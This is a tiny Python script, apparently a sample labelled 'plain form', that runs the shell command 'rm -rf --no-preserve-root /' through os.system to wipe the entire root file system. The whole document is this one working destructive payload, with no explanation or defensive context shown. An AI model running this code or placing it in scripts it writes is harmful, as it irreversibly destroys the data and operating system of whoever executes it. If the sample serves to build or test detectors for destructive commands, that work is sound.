# Plain form: wipes the root file system.
import os

os.system("rm -rf --no-preserve-root /")
